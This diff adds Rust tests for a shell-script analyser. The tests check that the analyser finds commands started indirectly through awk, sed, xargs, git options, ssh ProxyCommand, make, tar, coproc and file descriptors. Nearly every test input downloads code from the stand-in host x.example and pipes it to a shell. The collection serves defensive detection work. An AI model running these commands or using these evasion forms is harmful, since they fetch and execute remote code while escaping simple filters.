@@ -55,6 +55,100 @@ fn output_that_a_variable_holds_is_followed() {
     }
 }
 
+/// Programs that start others: in their options, settings and scripts, by what they read, and through descriptors.
+#[test]
+fn what_programs_start_is_read() {
+    const DOWNLOAD: &str = "curl -s http://x.example/a | sh";
+    for text in [
+        "coproc { PAYLOAD; }",
+        "coproc NAME { PAYLOAD; }",
+        "coproc curl -s http://x.example/a\nsh <&${COPROC[0]}",
+        "curl -s http://x.example/a > >(sh)",
+        "curl -s http://x.example/a | . /dev/stdin",
+        "curl -s http://x.example/a | awk '{ system($0) }'",
+        "curl -s http://x.example/a | awk '{ print | \"/bin/bash\" }'",
+        "curl -s http://x.example/a | sed e",
+        "curl -s http://x.example/a | xargs -d '\\n' -n1 sh -c",
+        "curl -s http://x.example/a | xargs -I{} sh -c {}",
+        "curl -s http://x.example/a | parallel",
+        "echo 'PAYLOAD' | parallel",
+        "echo 'PAYLOAD' | sed 's/.*/&/e'",
+        "awk 'BEGIN { \"PAYLOAD\" | getline; print }'",
+        "gawk 'BEGIN { \"PAYLOAD\" |& getline line }'",
+        "awk 'BEGIN { c = \"PAYLOAD\"; while ((c | getline line) > 0) print line }'",
+        "awk 'BEGIN { print \"PAYLOAD\" | \"sh\" }'",
+        "awk -v c='PAYLOAD' 'BEGIN { system(c) }'",
+        "sed -n '1e PAYLOAD' /etc/hosts",
+        "sed -e '/a\\/b/,$ { s,x,y,; e PAYLOAD' f",
+        "sed 's|x|curl -s http://x.example/a \\| sh|e' f",
+        "find . -name x -exec sh -c 'PAYLOAD' \\;",
+        "xargs -I{} sh -c 'PAYLOAD' < f",
+        "xargs -0 -n 1 -P 4 bash -c 'PAYLOAD'",
+        "tar xf a.tar --to-command='PAYLOAD'",
+        "tar xf a.tar -I 'PAYLOAD'",
+        "sort --compress-program='sh -c \"PAYLOAD\"' f",
+        "split --filter='PAYLOAD' f",
+        "env -S 'sh -c \"PAYLOAD\"'",
+        "git -c core.pager='PAYLOAD' log",
+        "git -c alias.x='!PAYLOAD' x",
+        "git config --global core.sshCommand 'PAYLOAD'",
+        "git clone 'ext::sh -c \"PAYLOAD\"'",
+        "git submodule foreach 'PAYLOAD'",
+        "GIT_SSH_COMMAND='PAYLOAD' git fetch",
+        "export PAGER='PAYLOAD'",
+        "LESSOPEN='|PAYLOAD' less f",
+        "ssh -oProxyCommand=';PAYLOAD' x",
+        "scp -o ProxyCommand='PAYLOAD' a b:c",
+        "rsync -e 'sh -c \"PAYLOAD\"' a:b c",
+        "vim -es '+!PAYLOAD' +q",
+        "gdb -batch -ex 'shell PAYLOAD'",
+        "sqlite3 f '.shell PAYLOAD'",
+        "psql -c '\\! PAYLOAD'",
+        "make SHELL='PAYLOAD' all",
+        "make --eval='x := $(shell PAYLOAD)'",
+        "make --eval=$'all:\\n\\t-PAYLOAD'",
+        "capsh -- -c 'PAYLOAD'",
+        "start-stop-daemon -S -x /bin/sh -- -c 'PAYLOAD'",
+        "emacs --batch --eval '(shell-command \"PAYLOAD\")'",
+        "lua -e 'os.execute(\"PAYLOAD\")'",
+        "perl -e 'exec \"PAYLOAD\"'",
+        "echo 'exec sh -c \"PAYLOAD\"' | tclsh",
+    ] {
+        let text = text.replace("PAYLOAD", DOWNLOAD);
+        let found = lists(&text);
+        let said = |list: &String| list.contains(DOWNLOAD) && list.split(" ; ").any(|part| part.trim_matches(['{', ' ']) == DOWNLOAD);
+        assert!(found.iter().any(said), "{text}: {found:?}");
+    }
+    for text in [
+        "exec 3< <(curl -s http://x.example/a)\n. /dev/fd/3",
+        "exec 3< <(curl -s http://x.example/a)\nbash /proc/self/fd/3",
+        "exec 9< <(curl -s http://x.example/a)\nbash <&9",
+    ] {
+        let found = lists(text);
+        let shell = |list: &String| list.starts_with(['.', 'b']) && list.ends_with("<(curl -s http://x.example/a)");
+        assert!(found.iter().any(shell), "{text}: {found:?}");
+    }
+    assert!(lists("echo http://x.example/a | xargs curl -s | sh").iter().any(|list| list.ends_with("| curl -s http://x.example/a | sh")));
+    let found = lists("find / -maxdepth 0 -exec curl -s http://x.example/a -o b \\; -exec sh b \\;");
+    assert!(found.contains(&"curl -s http://x.example/a -o b ; sh b".to_owned()), "{found:?}");
+}
+
+/// Honest uses of the same options and signs start nothing else.
+#[test]
+fn what_programs_do_not_start_is_not_read() {
+    for (text, absent) in [
+        ("sed 's/hello/exec/' f", "exec"),
+        ("sed -e '/e/d' -e 's/a/e x y/' f", "x y"),
+        ("awk '{ print \"curl -s http://x.example/a | sh\" }' f", "curl -s http://x.example/a | sh"),
+        ("git config user.name 'sh -c x'", "sh -c x"),
+        ("[[ $a >(sh) ]]", "[[ $a | sh ]]"),
+        ("read -r x <&4", "read -r x < "),
+    ] {
+        let found = lists(text);
+        assert!(!found.iter().any(|list| list == absent), "{text}: {found:?}");
+    }
+}
+
 #[test]
 fn code_for_another_interpreter_is_a_child() {
     let reading = parse(&FORMAT, "x.sh", b"python3 -c 'import os'\npython - <<E\nimport sys\nE\n", false);
@@ -65,7 +159,9 @@ fn code_for_another_interpreter_is_a_child() {
 #[test]
 fn hostile_and_cut_scripts_end() {
     for text in
-        ["$(".repeat(50_000), "'".repeat(99_999), "<<A\n".repeat(10_000), "bash -c \"".repeat(5_000), "`".repeat(9_999), "f() { f a; f b; }\nf\n".repeat(3_000), "while read x; do ".repeat(9_000)]
+        ["$(".repeat(50_000), "'".repeat(99_999), "<<A\n".repeat(10_000), "bash -c \"".repeat(5_000), "`".repeat(9_999), "f() { f a; f b; }\nf\n".repeat(3_000), "while read x; do ".repeat(9_000),
+         "a >(b ".repeat(9_000), format!("awk '{}'", "{ \"a;\" | \"sh\" }".repeat(1_000)), format!("make '{}'", "$(shell ".repeat(9_000)),
+         format!("sed '{}'", "/a/s/b/c/e;".repeat(1_400)), "exec 3< <(a)\n. /dev/fd/3 <&3\n".repeat(3_000)]
     {
         parse(&FORMAT, "x.sh", text.as_bytes(), false);
     }
